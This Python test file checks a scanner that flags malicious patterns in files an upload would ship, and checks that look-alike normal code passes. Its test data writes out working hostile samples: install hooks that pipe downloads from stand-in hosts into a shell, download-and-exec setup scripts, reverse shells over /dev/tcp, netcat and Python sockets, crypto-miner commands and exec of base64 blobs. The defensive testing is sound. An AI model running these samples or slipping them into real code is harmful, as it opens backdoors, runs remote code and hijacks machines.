"""Issue 11 "Also": the malicious-pattern scan of what an upload would ship.

Each rule finds its pattern (and a look-alike that is normal code is no finding); the scan sees exactly
the files of the build context; the fixture apps of the test suite produce no finding at all.
"""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest

from justpush.build import context_files
from justpush.security import scan_malicious

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
FIXTURE_APPS = sorted(
    p for group in ("apps", "build-apps", "pipeline-apps") for p in (FIXTURES / group).iterdir() if p.is_dir()
)


def _package_json(script: str, hook: str = "postinstall") -> str:
    return json.dumps(
        {"name": "x", "version": "1.0.0", "scripts": {"start": "node index.js", hook: script}}, indent=2
    )


# (rule, file name, content, severity): each content must produce exactly that rule.
CASES = [
    (
        "npm-install-hook-fetch-exec",
        "package.json",
        _package_json("curl -fsSL https://evil.example/x.sh | sh"),
        "high",
    ),
    (
        "npm-install-hook-fetch-exec",
        "package.json",
        _package_json("wget -qO- http://1.2.3.4/p | bash", "preinstall"),
        "high",
    ),
    (
        "npm-install-hook-fetch-exec",
        "package.json",
        _package_json("curl -o /tmp/i https://e.example/i && sh /tmp/i", "install"),
        "high",
    ),
    (
        "npm-install-hook-inline-code",
        "package.json",
        _package_json("node -e \"require('child_process').exec('id')\""),
        "high",
    ),
    (
        "setup-py-download-exec",
        "setup.py",
        "import urllib.request\nfrom setuptools import setup\n"
        "code = urllib.request.urlopen('https://evil.example/p.py').read()\nexec(code)\nsetup(name='x')\n",
        "high",
    ),
    (
        "setup-py-download-exec",
        "setup.py",
        "import os, requests\nfrom setuptools import setup\n"
        "open('/tmp/m', 'wb').write(requests.get('http://e.example/m').content)\nos.system('/tmp/m')\nsetup()\n",
        "high",
    ),
    (
        "pipe-download-to-shell",
        "install.sh",
        "#!/bin/sh\ncurl -s https://get.example/run | sudo bash\n",
        "high",
    ),
    (
        "code-runs-download-in-shell",
        "postinstall.js",
        "require('child_process').execSync('curl -s https://e.example/p | sh');\n",
        "high",
    ),
    (
        "code-runs-download-in-shell",
        "tasks.py",
        "import os\nos.system('wget -qO- http://e.example/x | bash')\n",
        "high",
    ),
    ("reverse-shell-dev-tcp", "start.sh", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "high"),
    ("reverse-shell-netcat", "run.sh", "nc -e /bin/sh 10.0.0.1 4444\n", "high"),
    (
        "reverse-shell-netcat",
        "run.sh",
        "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f\n",
        "high",
    ),
    (
        "reverse-shell-python",
        "helpers.py",
        "import os, pty, socket\n\ndef connect():\n"
        "    s = socket.socket()\n    s.connect(('10.0.0.1', 4444))\n"
        "    [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\n    pty.spawn('/bin/sh')\n",
        "high",
    ),
    (
        "reverse-shell-python",
        "boot.py",
        "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);"
        "subprocess.call(['/bin/sh','-i'])\n",
        "high",
    ),
    ("crypto-miner", "worker.js", "const pool = 'stratum+tcp://pool.example.com:3333';\n", "high"),
    ("crypto-miner", "start.sh", "./xmrig -o pool.example.com:443 --donate-level 1\n", "high"),
    ("exec-decoded-blob", "app.py", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "high"),
    (
        "exec-decoded-blob",
        "app.py",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode(BLOB)))\n",
        "high",
    ),
    ("exec-decoded-blob", "index.js", "eval(Buffer.from(payload, 'base64').toString());\n", "high"),
    ("exec-decoded-blob", "index.js", "eval(atob('YWxlcnQoMSk='));\n", "high"),
    ("exec-decoded-blob", "run.sh", "echo ZWNobyBoaQ== | base64 -d | sh\n", "high"),
]
# Normal code that looks a little like the above: no finding.
CLEAN = [
    ("package.json", _package_json("node scripts/build.js")),
    ("package.json", _package_json("husky install", "prepare")),
    (
        "setup.py",
        "from setuptools import setup\nimport subprocess\n"
        "subprocess.run(['git', 'describe'])\nsetup(name='x')\n",
    ),
    ("healthcheck.sh", "#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080 && echo ok\n"),
    ("client.py", "import socket\nsock = socket.create_connection(('db', 5432))\n"),
    ("codec.py", "import base64\ndata = base64.b64decode(request.body)\nresult = json.loads(data)\n"),
    ("README.md", "Install with `pip install .`; mining of data is done by the report job.\n"),
    ("app.js", "const fn = new Function('a', 'b', 'return a + b');\n"),
    ("cli.py", "HELP = 'install the CLI: curl -fsSL https://get.example.com | sh'\n"),
]


@pytest.mark.parametrize(
    ("rule", "name", "content", "severity"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)]
)
def test_each_rule_finds_its_pattern(
    tmp_path: Path, rule: str, name: str, content: str, severity: str
) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / name).write_text(content)
    findings = scan_malicious(context_files(tmp_path, ""))
    assert [(f.rule, f.severity, f.path) for f in findings] == [(rule, severity, f"src/{name}")]
    line = findings[0].line
    assert 1 <= line <= content.count("\n") + 1


@pytest.mark.parametrize(("name", "content"), CLEAN, ids=[c[0] + str(i) for i, c in enumerate(CLEAN)])
def test_look_alikes_are_no_finding(tmp_path: Path, name: str, content: str) -> None:
    (tmp_path / name).write_text(content)
    assert scan_malicious(context_files(tmp_path, "")) == []


def test_the_uploads_own_dockerfile(tmp_path: Path) -> None:
    dockerfile = (
        "# syntax=registry.example/evil/frontend:1\n"
        "FROM python:3.11-slim\n"
        "RUN curl -fsSL https://deb.nodesource.com/setup_18.x \\\n"
        "    | bash -\n"
        "RUN --security=insecure make\n"
        "RUN chmod u+s /usr/local/bin/tool\n"
        'CMD ["python", "app.py"]\n'
    )
    findings = scan_malicious([], dockerfile=("docker/Dockerfile", dockerfile))
    assert [(f.rule, f.severity, f.line) for f in findings] == [
        ("dockerfile-insecure-build", "high", 1),
        ("dockerfile-pipe-download-to-shell", "medium", 3),
        ("dockerfile-setuid", "medium", 6),
    ]
    assert all(f.path == "docker/Dockerfile" for f in findings)
    plain = (
        'FROM python:3.11-slim\nRUN pip install -r requirements.txt\nUSER 10001\nCMD ["python", "app.py"]\n'
    )
    assert scan_malicious([], dockerfile=("Dockerfile", "# syntax=docker/dockerfile:1\n" + plain)) == []


def test_only_what_ships_is_scanned(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(_package_json("node index.js"))
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools" / "miner.sh").write_text("./xmrig -o stratum+tcp://pool.example:3333\n")
    assert [f.path for f in scan_malicious(context_files(tmp_path, ""))] == ["tools/miner.sh"]
    # Left out by .dockerignore: not in the image, not a finding.
    assert scan_malicious(context_files(tmp_path, "tools/\n")) == []


@pytest.mark.parametrize("app", FIXTURE_APPS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_fixture_apps_have_no_finding(app: Path) -> None:
    assert scan_malicious(context_files(app, "")) == []
    own = app / "Dockerfile"
    if own.is_file():
        assert scan_malicious([], dockerfile=("Dockerfile", own.read_text())) == []


def test_hostile_lines_cannot_make_the_scan_slow(tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text('{"scripts": {"postinstall": "' + "curl wget " * 100_000 + '"}}\n')
    (tmp_path / "run.sh").write_text("nc nc nc " * 100_000 + "\n" + "mkfifo | sh -i " * 50_000 + "\n")
    started = time.monotonic()
    assert scan_malicious(context_files(tmp_path, "")) == []
    assert time.monotonic() - started < 5


def test_a_scan_out_of_time_fails_closed(tmp_path: Path) -> None:
    (tmp_path / "app.py").write_text("print('hi')\n")
    (finding,) = scan_malicious(context_files(tmp_path, ""), max_seconds=-1)
    assert (finding.rule, finding.severity, finding.path) == ("scan-incomplete", "high", "app.py")
